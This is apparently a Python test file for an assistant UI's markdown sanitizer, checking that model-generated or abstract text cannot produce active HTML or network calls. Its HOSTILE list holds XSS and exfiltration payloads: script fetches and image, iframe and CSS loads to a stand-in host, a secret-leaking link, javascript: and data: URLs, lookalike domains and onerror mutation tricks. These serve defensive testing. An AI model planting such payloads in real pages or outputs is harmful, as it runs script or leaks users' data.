"""Whatever a model or an abstract says, its HTML neither runs nor reaches the network."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.ui.base.markdown import PARTLY_SIGN, safe_html, without_signs

HOSTILE = (
    "<img src=http://leak.example/x>",
    "![seen](http://leak.example/x.png)",
    "![seen][ref]\n\n[ref]: http://leak.example/x.png",
    "<script>fetch('http://leak.example')</script>",
    "<svg onload=alert(1)><use href=http://leak.example/#x></svg>",
    "<iframe src=http://leak.example></iframe>",
    "<style>@import url(http://leak.example)</style>",
    "<p style='background:url(http://leak.example)'>x</p>",
    "<link rel=prefetch href=http://leak.example>",
    "<a ping=http://leak.example href=#>x</a>",
    "<video poster=http://leak.example><source src=http://leak.example></video>",
    "[click](javascript:alert(1))",
    "[click](http://leak.example?q=secret)",
    "[1](http://leak.example)",
    "[1]: http://leak.example\n\n[1]",
    "<http://leak.example>",
    "[click](https://arxiv.org.leak.example/abs/1)",
    "[click](https://arxiv.org@leak.example/abs/1)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "| a |\n|--|\n| ![](http://leak.example) |",
    "`<img src=x>` and \\<img src=x\\>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
)
TEXT_TAGS = {"p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span"}
TABLE_TAGS = {"table", "thead", "tbody", "tr", "th", "td"}
HARMLESS_TAGS = TEXT_TAGS | TABLE_TAGS | {f"h{level}" for level in range(1, 7)}
HARMLESS_ATTRIBUTES = {
    "class",
    "href",
    "rel",
    "target",
    "data-number",
    "data-label",
    "aria-label",
    "role",
    "title",
    "start",
}


class Inventory(HTMLParser):
    """All tags, attributes and addresses of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name == "href"}


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_becomes_harmless_text(markdown: str) -> None:
    found = Inventory(safe_html(markdown))
    assert found.tags <= HARMLESS_TAGS
    assert found.attributes <= HARMLESS_ATTRIBUTES
    assert found.addresses <= {"#sources"}


@given(st.text(alphabet="<>[]()!/&\"'`\\|#*_:= \n1ahrefjvsciptmgdt.", max_size=80))
def test_no_text_makes_a_tag_that_is_not_on_the_list(markdown: str) -> None:
    found = Inventory(safe_html(markdown))
    assert found.tags <= HARMLESS_TAGS
    assert found.attributes <= HARMLESS_ATTRIBUTES


def test_a_marker_is_a_link_to_the_sources_with_the_title() -> None:
    html = safe_html("It saves 95.7% [2].", marker_label=lambda n: f"Source {n}: “A & B”")
    assert '&nbsp;<a class="marker" href="#sources" data-number="2" aria-label="Source 2: “A &amp; B”"' in html
    assert html.endswith(">2</a>.</p>\n")


def test_links_lead_to_arxiv_a_doi_or_a_known_paper_only() -> None:
    html = safe_html(
        "[a](https://arxiv.org/abs/2305.15719) [b](https://doi.org/10.1000/1) [c](https://github.com/x/y) [d](https://github.com/z)",
        links=frozenset({"https://github.com/x/y"}),
    )
    assert Inventory(html).addresses == {
        "https://arxiv.org/abs/2305.15719",
        "https://doi.org/10.1000/1",
        "https://github.com/x/y",
    }
    assert "[d](https://github.com/z)" in html


def test_tables_lists_and_emphasis_are_kept() -> None:
    html = safe_html("**b** *i*\n\n- x\n\n| a | b |\n|--|--|\n| 1 | 2 |")
    assert Inventory(html).tags >= {"strong", "em", "ul", "li", "table", "th", "td"}


def test_a_verdict_is_a_labelled_mark() -> None:
    html = safe_html(f"So it is.{PARTLY_SIGN}")
    assert '<span class="verdict partly" role="img" aria-label="Partly supported"' in html


def test_a_text_cannot_bring_its_own_verdict() -> None:
    assert without_signs(f"a{PARTLY_SIGN}b") == "ab"
